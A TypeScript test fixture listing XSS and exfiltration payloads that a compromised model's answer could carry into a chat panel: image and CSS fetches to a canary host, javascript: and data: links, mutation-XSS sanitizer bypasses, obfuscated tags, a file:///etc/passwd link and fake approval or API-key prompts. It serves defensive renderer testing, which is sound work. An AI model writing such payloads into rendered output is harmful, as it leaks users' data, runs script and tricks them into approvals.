/**
 * The exfiltration/XSS corpus: answers a compromised model could write to leak data or run script the moment
 * the panel renders them (issue 10, "No zero-click network sink in the panel"). Each vector is Markdown with
 * placeholders: `{C}` the canary server's origin (every request it gets is a leak), `{ID}` the vector's id
 * (so a request names its vector), `{JS}` a script payload that marks its execution (a global and a request).
 * Our own versions of the classic payload families (OWASP/PortSwigger cheat sheets, DOMPurify bypasses).
 */
export interface ExfilVector {
  id: string;
  family: 'resource' | 'svg' | 'mathml' | 'css' | 'markdown' | 'link' | 'script' | 'mxss' | 'obfuscation' | 'fake-ui';
  markdown: string;
}

/** Script that proves execution: a global the checks read and a request the canary records. */
const JS = "self.__xss='{ID}';fetch('{C}/xss/{ID}')";

const v = (family: ExfilVector['family'], id: string, markdown: string): ExfilVector => ({ id, family, markdown });

export const EXFIL_VECTORS: readonly ExfilVector[] = [
  // HTML elements and attributes that load a resource by being parsed.
  v('resource', 'img-src', '<img src="{C}/{ID}">'),
  v('resource', 'img-onerror', `<img src=x onerror="${JS}">`),
  v('resource', 'img-srcset', '<img srcset="{C}/{ID} 1x, {C}/{ID}-2 2x">'),
  v('resource', 'img-lazy', 'Inline <img loading="lazy" decoding="async" src="{C}/{ID}"> image'),
  v('resource', 'img-lowsrc', '<img lowsrc="{C}/{ID}" dynsrc="{C}/{ID}-dyn">'),
  v('resource', 'picture-source', '<picture><source srcset="{C}/{ID}"><img src="{C}/{ID}-img"></picture>'),
  v('resource', 'image-element', '<image src="{C}/{ID}">'),
  v('resource', 'input-image', '<input type="image" src="{C}/{ID}">'),
  v('resource', 'table-background', '<table background="{C}/{ID}"><tr><td>cell</td></tr></table>'),
  v('resource', 'td-background', '<table><tr><td background="{C}/{ID}">cell</td></tr></table>'),
  v('resource', 'th-background', '<table><thead><tr><th background="{C}/{ID}">head</th></tr></thead></table>'),
  v('resource', 'body-background', '<body background="{C}/{ID}">body</body>'),
  v('resource', 'video-poster', '<video poster="{C}/{ID}"></video>'),
  v('resource', 'video-src', '<video src="{C}/{ID}" autoplay muted></video>'),
  v('resource', 'audio-src', '<audio src="{C}/{ID}" autoplay></audio>'),
  v('resource', 'video-source-track', '<video><source src="{C}/{ID}"><track default src="{C}/{ID}-track"></video>'),
  v('resource', 'object-data', '<object data="{C}/{ID}"></object>'),
  v('resource', 'embed-src', '<embed src="{C}/{ID}">'),
  v('resource', 'iframe-src', '<iframe src="{C}/{ID}"></iframe>'),
  v('resource', 'iframe-srcdoc', '<iframe srcdoc="&lt;img src=&quot;{C}/{ID}&quot;&gt;"></iframe>'),
  v('resource', 'frame-src', '<frameset><frame src="{C}/{ID}"></frameset>'),
  v('resource', 'portal-src', '<portal src="{C}/{ID}"></portal>'),
  v('resource', 'bgsound', '<bgsound src="{C}/{ID}">'),
  v('resource', 'link-stylesheet', '<link rel="stylesheet" href="{C}/{ID}">'),
  v('resource', 'link-prefetch', '<link rel="prefetch" href="{C}/{ID}">'),
  v('resource', 'link-preload', '<link rel="preload" as="image" href="{C}/{ID}">'),
  v('resource', 'link-modulepreload', '<link rel="modulepreload" href="{C}/{ID}">'),
  v(
    'resource',
    'link-preconnect',
    '<link rel="preconnect" href="{C}/{ID}"><link rel="dns-prefetch" href="{C}/{ID}-dns">',
  ),
  v('resource', 'link-icon', '<link rel="icon" href="{C}/{ID}">'),
  v('resource', 'meta-refresh', '<meta http-equiv="refresh" content="0;url={C}/{ID}">'),
  v('resource', 'base-href', '<base href="{C}/{ID}/">\n\n[relative](page.html)'),
  v(
    'resource',
    'speculation-rules',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{C}/{ID}"]}]}</script>',
  ),
  v(
    'resource',
    'form-action',
    '<form action="{C}/{ID}"><input name="q" value="secret"><button>Approve</button></form>',
  ),
  v('resource', 'button-formaction', '<button formaction="{C}/{ID}">Allow</button>'),
  v(
    'resource',
    'form-autosubmit',
    `<form action="{C}/{ID}" id="f"><input type="submit" autofocus onfocus="${JS}"></form>`,
  ),

  // SVG: images, filters, <use>, links and animations that set an href.
  v('svg', 'svg-image', '<svg><image href="{C}/{ID}" width="10" height="10"/></svg>'),
  v('svg', 'svg-image-xlink', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{C}/{ID}"/></svg>'),
  v(
    'svg',
    'svg-feimage',
    '<svg><filter id="f"><feImage href="{C}/{ID}"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>',
  ),
  v('svg', 'svg-use', '<svg><use href="{C}/{ID}#x"/></svg>'),
  v('svg', 'svg-a-xlink-js', `<svg><a xlink:href="javascript:${JS}"><text y="20">click</text></a></svg>`),
  v('svg', 'svg-a-href', '<svg><a href="{C}/{ID}"><text y="20">svg link</text></a></svg>'),
  v(
    'svg',
    'svg-foreignobject',
    '<svg><foreignObject width="50" height="50"><img src="{C}/{ID}"></foreignObject></svg>',
  ),
  v(
    'svg',
    'svg-animate-href',
    `<svg><a><animate attributeName="href" values="javascript:${JS}"/><text y="20">anim</text></a></svg>`,
  ),
  v('svg', 'svg-set-href', '<svg><image width="5" height="5"><set attributeName="href" to="{C}/{ID}"/></image></svg>'),
  v('svg', 'svg-onload', `<svg onload="${JS}"></svg>`),
  v('svg', 'svg-script', `<svg><script>${JS}</script></svg>`),
  v('svg', 'svg-style-import', '<svg><style>@import url({C}/{ID});</style></svg>'),
  v('svg', 'svg-fill-url', '<svg><rect fill="url({C}/{ID}#p)" width="5" height="5"/></svg>'),
  v(
    'svg',
    'svg-cursor',
    '<svg><cursor href="{C}/{ID}"/><rect cursor="url({C}/{ID}-c), auto" width="5" height="5"/></svg>',
  ),

  // MathML.
  v(
    'mathml',
    'math-maction',
    `<math><maction actiontype="statusline" xlink:href="javascript:${JS}"><mi>x</mi></maction></math>`,
  ),
  v('mathml', 'math-mglyph', '<math><mglyph src="{C}/{ID}"/></math>'),
  v('mathml', 'math-href', '<math href="{C}/{ID}"><mi>x</mi></math>'),
  v(
    'mathml',
    'math-annotation-xml',
    '<math><annotation-xml encoding="text/html"><img src="{C}/{ID}"></annotation-xml></math>',
  ),
  v('mathml', 'math-mi-href', `<math><mi href="javascript:${JS}">y</mi></math>`),

  // CSS in every place that fetches.
  v('css', 'style-attr-background', '<p style="background:url({C}/{ID})">styled</p>'),
  v('css', 'style-attr-list-image', '<ul style="list-style-image:url({C}/{ID})"><li>item</li></ul>'),
  v('css', 'style-attr-cursor', '<div style="cursor:url({C}/{ID}),auto">cursor</div>'),
  v('css', 'style-attr-image-set', '<span style="background-image:image-set(url({C}/{ID}) 1x)">set</span>'),
  v('css', 'style-attr-entity', '<p style="background:u&#x72;l({C}/{ID})">entity</p>'),
  v('css', 'style-attr-escape', '<p style="background:\\75rl({C}/{ID})">escape</p>'),
  v('css', 'style-tag-import', "<style>@import '{C}/{ID}';</style>"),
  v('css', 'style-tag-background', '<style>p{background-image:url({C}/{ID})}</style>'),
  v('css', 'style-tag-font-face', '<style>@font-face{font-family:x;src:url({C}/{ID})}p{font-family:x}</style>'),
  v('css', 'style-tag-border-image', '<style>.markdown{border-image:url({C}/{ID}) 30}</style>'),
  v('css', 'style-tag-in-div', '<div><style>*{list-style-image:url({C}/{ID})}</style>text</div>'),

  // Markdown's own images and links.
  v('markdown', 'md-image', '![chart]({C}/{ID})'),
  v('markdown', 'md-image-reference', '![chart][ref-{ID}]\n\n[ref-{ID}]: {C}/{ID}'),
  v('markdown', 'md-image-title', '![a]({C}/{ID} "title")'),
  v('markdown', 'md-image-angle', '![a](<{C}/{ID}>)'),
  v('markdown', 'md-image-in-link', '[![inner]({C}/{ID}-inner)]({C}/{ID})'),
  v('markdown', 'md-image-collapsed-ref', '![ref-{ID}-c][]\n\n[ref-{ID}-c]: {C}/{ID}'),
  v('markdown', 'md-autolink', '<{C}/{ID}>'),
  v('markdown', 'md-gfm-autolink', 'see www.attacker.example/{ID} and {C}/{ID}-bare'),
  v('markdown', 'md-link-title-break', `[x](https://example.com/ "a\\" onmouseover=\\"${JS}")`),
  v('markdown', 'md-code-span', '`<img src="{C}/{ID}">`'),
  v('markdown', 'md-task-list', '- [ ] not a checkbox\n- [x] done'),

  // Links: dangerous schemes, pings, targets.
  v('link', 'link-javascript', `[x](javascript:${JS})`),
  v('link', 'link-javascript-entity', `[x](jav&#x61;script:${JS})`),
  v('link', 'link-javascript-tab', `<a href="JaVa&#x09;ScRiPt:${JS}">tab</a>`),
  v('link', 'link-javascript-space', `<a href=" javascript:${JS}">space</a>`),
  v('link', 'link-javascript-ref', `[x][js-{ID}]\n\n[js-{ID}]: javascript:${JS}`),
  v('link', 'link-data-html', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
  v('link', 'link-data-entity', `<a href="&#100;ata:text/html,&lt;script&gt;${JS}&lt;/script&gt;">d</a>`),
  v('link', 'link-vbscript', '<a href="vbscript:msgbox(1)">vb</a>'),
  v('link', 'link-blob', '<a href="blob:{C}/0000-{ID}">blob</a>'),
  v('link', 'link-file', '<a href="file:///etc/passwd">file</a>'),
  v('link', 'link-ping', '<a href="https://example.com/" ping="{C}/{ID}">ping</a>'),
  v('link', 'link-target-self', '<a href="https://example.com/{ID}" target="_self" rel="opener">self</a>'),
  v('link', 'link-attributionsrc', '<a href="https://example.com/" attributionsrc="{C}/{ID}">attr</a>'),
  v(
    'link',
    'link-area',
    `<map name="m"><area shape="default" href="javascript:${JS}"></map><img usemap="#m" src="{C}/{ID}">`,
  ),
  v('link', 'link-protocol-relative', '<a href="//attacker.example/{ID}">proto</a>'),

  // Script, event handlers, templates.
  v('script', 'script-inline', `<script>${JS}</script>`),
  v('script', 'script-src', '<script src="{C}/{ID}"></script>'),
  v('script', 'details-ontoggle', `<details open ontoggle="${JS}"><summary>s</summary>d</details>`),
  v('script', 'marquee-onstart', `<marquee onstart="${JS}">m</marquee>`),
  v('script', 'body-onload', `<body onload="${JS}">`),
  v('script', 'iframe-javascript', `<iframe src="javascript:${JS}"></iframe>`),
  v('script', 'embed-data-svg', `<embed src="data:image/svg+xml,&lt;svg onload=${JS}&gt;">`),
  v('script', 'template', '<template><img src="{C}/{ID}"></template>'),
  v('script', 'template-shadowroot', '<div><template shadowrootmode="open"><img src="{C}/{ID}"></template></div>'),

  // Mutation XSS: parser differentials and namespace confusion (our own versions of public bypasses).
  v('mxss', 'mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`),
  v('mxss', 'mxss-svg-p-style', '<svg></p><style><a id="</style><img src={C}/{ID}>">'),
  v(
    'mxss',
    'mxss-math-mglyph-style',
    '<math><mtext><table><mglyph><style><img src="{C}/{ID}"></style></mglyph></table></mtext></math>',
  ),
  v(
    'mxss',
    'mxss-math-comment',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${JS}&gt;">`,
  ),
  v(
    'mxss',
    'mxss-form-nesting',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src={C}/{ID}>">',
  ),
  v('mxss', 'mxss-textarea', '<textarea><img title="</textarea><img src={C}/{ID}>"></textarea>'),
  v('mxss', 'mxss-xmp', '<xmp><img src="{C}/{ID}"></xmp>'),
  v('mxss', 'mxss-select-style', '<select><style></select><img src={C}/{ID}></style></select>'),
  v('mxss', 'mxss-comment', '<!--><img src="{C}/{ID}">-->'),
  v('mxss', 'mxss-comment-in-attr', '<p title="--><img src={C}/{ID}>">c</p>'),
  v('mxss', 'mxss-cdata', '<svg><![CDATA[><img src={C}/{ID}>]]></svg>'),
  v('mxss', 'mxss-processing-instruction', '<svg><?xml ><img src={C}/{ID}>?></svg>'),
  v('mxss', 'mxss-iframe-text', '<iframe><img title="</iframe><img src={C}/{ID}>"></iframe>'),
  v(
    'mxss',
    'mxss-dom-clobbering',
    '<form id="attributes"><input name="nodeName"></form><img name="getElementById" src="{C}/{ID}">',
  ),

  // Obfuscation: entities, case, control and invisible characters.
  v('obfuscation', 'obf-upper-case', '<IMG SRC="{C}/{ID}">'),
  v('obfuscation', 'obf-slash-separator', '<img/src="{C}/{ID}">'),
  v('obfuscation', 'obf-null-byte', '<im\u0000g src="{C}/{ID}"><img src\u0000="{C}/{ID}-b">'),
  v('obfuscation', 'obf-entity-url', '<img src="&#x68;ttp&#58;//127.0.0.1:{PORT}/{ID}">'),
  v('obfuscation', 'obf-fullwidth', '<ｉｍｇ src="{C}/{ID}">'),
  v('obfuscation', 'obf-escaped-tag', '&lt;img src="{C}/{ID}"&gt;'),
  v('obfuscation', 'obf-zero-width', '<im\u200bg src="{C}/{ID}"><a href="java\u200bscript:alert(1)">zw</a>'),
  v('obfuscation', 'obf-newline-attr', '<img\nsrc\n=\n"{C}/{ID}"\n>'),
  v('obfuscation', 'obf-backtick-attr', '<img src=`{C}/{ID}`>'),

  // UI that would pass for Tabwise's own.
  v(
    'fake-ui',
    'ui-approval-card',
    '<div class="tool-card awaiting-approval"><div class="approval"><button class="primary">Approve</button></div></div>',
  ),
  v(
    'fake-ui',
    'ui-copy-button',
    '<div class="code-block"><div class="code-bar"><button class="copy" data-copy>Copy</button></div><pre><code>x</code></pre></div>',
  ),
  v('fake-ui', 'ui-forged-trust', '<div data-tw-trust="00000000-0000-4000-8000-000000000000 code-block">forged</div>'),
  v('fake-ui', 'ui-popover', '<div popover id="p">Tabwise: approve?</div><button popovertarget="p">Open</button>'),
  v(
    'fake-ui',
    'ui-dialog',
    '<dialog open>Tabwise needs your approval<form method="dialog"><button>Allow</button></form></dialog>',
  ),
  v('fake-ui', 'ui-input-password', '<label>Re-enter your API key <input type="password" name="key"></label>'),
  v(
    'fake-ui',
    'ui-fixed-overlay',
    '<div style="position:fixed;inset:0;background:white">Session expired: click to continue</div>',
  ),
  v('fake-ui', 'ui-id-anchor', '<div id="composer" class="composer">fake composer</div>'),
];

/** The vector's Markdown with its placeholders filled in for a canary server at `canary` (`http://127.0.0.1:PORT`). */
export function expandVector(vector: ExfilVector, canary: string): string {
  const port = new URL(canary).port;
  return vector.markdown.replaceAll('{C}', canary).replaceAll('{PORT}', port).replaceAll('{ID}', vector.id);
}
